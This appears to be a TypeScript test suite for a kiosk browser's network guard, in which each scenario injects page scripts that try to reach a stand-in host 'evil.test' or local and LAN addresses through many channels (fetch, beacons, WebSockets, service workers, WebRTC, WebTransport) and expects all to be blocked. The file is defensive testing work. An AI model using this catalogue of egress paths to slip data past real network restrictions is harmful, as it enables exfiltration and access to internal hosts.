import type { Play } from '../drive/play.ts';
import { helpersOf, kill } from '../drive/processes.ts';
import type { Vector } from '../vector.ts';

const evil = 'http://evil.test';
const group = 'network';
const common = { kind: 'scenario', group, unguarded: 'escapes' } as const;

/** A worker can be made of a script of the page's own site only. */
const worker = (script: string): string => `/acting.js?script=${encodeURIComponent(script)}`;
const socket = (by: string): string => `new WebSocket('ws://evil.test/resources/socket?by=${by}');`;

/** Every way to fetch something, on a service whose hosts alone may be reached. */
const everyRequest = `const add = (name, properties) => { const element = Object.assign(document.createElement(name), properties); document.head.append(element); return element; };
const at = (by) => '${evil}/resources/picture.svg?by=' + by;
fetch(at('fetch'), { mode: 'no-cors' }).catch(() => undefined);
fetch(at('keepalive'), { mode: 'no-cors', keepalive: true }).catch(() => undefined);
fetch('/leave/redirect?to=' + encodeURIComponent(at('redirect')), { mode: 'no-cors' }).catch(() => undefined);
new Image().src = at('image');
add('link', { rel: 'stylesheet', href: at('style') });
add('link', { rel: 'prefetch', href: at('prefetch') });
add('link', { rel: 'preload', as: 'image', href: at('preload') });
add('link', { rel: 'modulepreload', href: at('modulepreload') });
add('link', { rel: 'icon', href: at('icon') });
add('script', { src: at('script') });
add('script', { type: 'module', src: at('module') });
add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [at('speculation')] }], prerender: [{ source: 'list', urls: [at('prerender')] }] }) });
document.body.append(Object.assign(document.createElement('video'), { src: at('video'), autoplay: true, muted: true }));
document.body.append(Object.assign(document.createElement('track'), { src: at('track') }));
navigator.sendBeacon(at('beacon'), 'canary');
new EventSource(at('events'));
new XMLHttpRequest().open('GET', at('never'));
const request = new XMLHttpRequest(); request.open('GET', at('xhr')); request.send();
new FontFace('borne', 'url(' + at('font') + ')').load().catch(() => undefined);
const ping = Object.assign(document.createElement('a'), { href: '#', ping: at('ping') }); document.body.append(ping); ping.click();
new Worker(${JSON.stringify(worker(`fetch('${evil}/resources/picture.svg?by=worker', { mode: 'no-cors' }).catch(() => undefined);`))});`;

const serviceWorker = (script: string): string =>
  `const registration = await navigator.serviceWorker.register(${JSON.stringify(worker(script))}, { scope: '/nothing-' + Math.random() + '/' });
registration.installing?.addEventListener('statechange', () => report('service worker', registration.active?.state));`;

const peer = (server: string): string => `const peer = new RTCPeerConnection({ iceServers: [${server}] });
peer.createDataChannel('out');
await peer.setLocalDescription(await peer.createOffer());
report('gathering', peer.iceGatheringState);`;

async function onStrict(play: Play, script: string, wait = 1_800): Promise<void> {
  await play.after('strict', { script, wait });
}

export const network: readonly Vector[] = [
  {
    ...common,
    id: 'V38',
    title: 'every kind of request to another host',
    expects: 'on a strict service none leaves',
    quick: true,
    run: (play) => onStrict(play, everyRequest),
  },
  {
    ...common,
    id: 'V39',
    title: 'a WebSocket of the page or of a worker',
    expects: 'on a strict service none opens',
    quick: true,
    async run(play) {
      await onStrict(
        play,
        `${socket('page')} new Worker(${JSON.stringify(worker(`${socket('worker')} report('worker ran');`))});`,
      );
      // One that never ran proves nothing.
      await play.reported('worker ran');
    },
  },
  {
    ...common,
    id: 'V40',
    title: 'a WebSocket of a service worker or a shared worker, which no request listener sees',
    expects: 'on a strict service none opens',
    quick: true,
    async run(play) {
      await onStrict(
        play,
        `if (typeof SharedWorker === 'function') new SharedWorker(${JSON.stringify(worker(socket('shared-worker')))});
${serviceWorker(`${socket('service-worker')} fetch('${evil}/?by=service-worker', { mode: 'no-cors' }).catch(() => undefined); report('worker ran');`)}`,
        2_500,
      );
      await play.reported('worker ran');
    },
  },
  {
    ...common,
    id: 'V41',
    title: 'WebTransport (QUIC over UDP), which no request listener sees',
    expects: 'on a strict service no packet leaves',
    quick: true,
    run: (play) =>
      onStrict(
        play,
        `if (typeof WebTransport === 'function') new WebTransport('https://127.0.0.1:${play.witnesses.udpPort}/').ready.catch(() => undefined);`,
      ),
  },
  {
    ...common,
    id: 'V42',
    title: 'WebRTC to a STUN or TURN server over UDP',
    expects: 'on a strict service no packet leaves',
    quick: true,
    run: (play) =>
      onStrict(
        play,
        peer(
          `{ urls: 'stun:127.0.0.1:${play.witnesses.udpPort}' }, { urls: 'turn:127.0.0.1:${play.witnesses.udpPort}?transport=udp', username: 'a', credential: 'b' }`,
        ),
        2_500,
      ),
  },
  {
    ...common,
    id: 'V43',
    title: 'WebRTC to a TURN server over TCP',
    expects: 'on a strict service nothing connects',
    quick: true,
    run: (play) =>
      onStrict(
        play,
        peer(
          `{ urls: 'turn:127.0.0.1:${play.witnesses.tcpPort}?transport=tcp', username: 'a', credential: 'b' }`,
        ),
        2_500,
      ),
  },
  {
    ...common,
    id: 'V44',
    title: 'other services of this PC and of its network',
    expects: 'no page reaches them, at either level',
    quick: true,
    async run(play) {
      const { tcpPort } = play.witnesses;
      const script = `for (const host of ['127.0.0.1', 'localhost', '[::ffff:127.0.0.1]', '0.0.0.0', '127.1', '2130706433', 'anything.localhost']) {
  fetch('http://' + host + ':${tcpPort}/fetch/' + host, { mode: 'no-cors' }).catch(() => undefined);
  new Image().src = 'http://' + host + ':${tcpPort}/image/' + host;
  new WebSocket('ws://' + host + ':${tcpPort}/socket/' + host);
}
report('printer', await Promise.race([fetch('http://192.168.0.1/', { mode: 'no-cors' }).then(() => 'reached', (error) => error.name), new Promise((resolve) => setTimeout(resolve, 1500, 'waiting'))]));`;
      for (const tile of ['pages', 'secure'] as const) {
        await play.after(tile, { script, wait: 1_800 });
        play.expect(
          (await play.reported('printer')) === 'TypeError',
          'a request for 192.168.0.1 was let out',
        );
      }
    },
  },
  {
    ...common,
    id: 'V45',
    title: 'this PC as seen by a proxy rule, which often leaves it out',
    expects: 'on a strict service this PC is not reached either, not even by a service worker',
    async run(play) {
      const { tcpPort } = play.witnesses;
      await onStrict(
        play,
        `fetch('http://127.0.0.1:${tcpPort}/strict', { mode: 'no-cors' }).catch(() => undefined);
${serviceWorker(`new WebSocket('ws://127.0.0.1:${tcpPort}/socket'); new WebSocket('ws://localhost:${tcpPort}/socket'); report('worker ran');`)}`,
        2_000,
      );
      await play.reported('worker ran');
    },
  },
  {
    ...common,
    id: 'V46',
    title: 'the network process killed and begun anew',
    expects: 'the new one is guarded like the old one',
    async run(play) {
      await play.open('strict');
      const networkProcesses = helpersOf(play.terminal.sessionPid, 'network');
      play.expect(networkProcesses.length > 0, 'no network process was found');
      kill(networkProcesses);
      await play.pause(1_500);
      await play.goHome();
      await onStrict(
        play,
        `${everyRequest} ${serviceWorker(`${socket('after')} report('worker ran');`)}`,
        2_500,
      );
      await play.reported('worker ran');
    },
  },
  {
    ...common,
    id: 'V47',
    title: 'a service worker that outlives its page',
    expects: 'it ends with the session',
    mayEndSession: true,
    async run(play) {
      await play.after('secure', {
        script: serviceWorker("report('worker ran'); setInterval(() => report('beat'), 200);"),
        wait: 1_500,
      });
      await play.reported('beat');
      await play.endSession();
      await play.pause(500);
      const beats = play.reports('beat').length;
      await play.pause(2_000);
      play.expect(play.reports('beat').length === beats, 'it went on after the session');
    },
  },
  {
    kind: 'windowsOnly',
    group,
    id: 'V48',
    title: 'what gets past everything above, below the browser',
    setting:
      'Windows Firewall for the kiosk’s program: outbound UDP denied, other connections by an allow-list',
  },
] satisfies readonly Vector[];
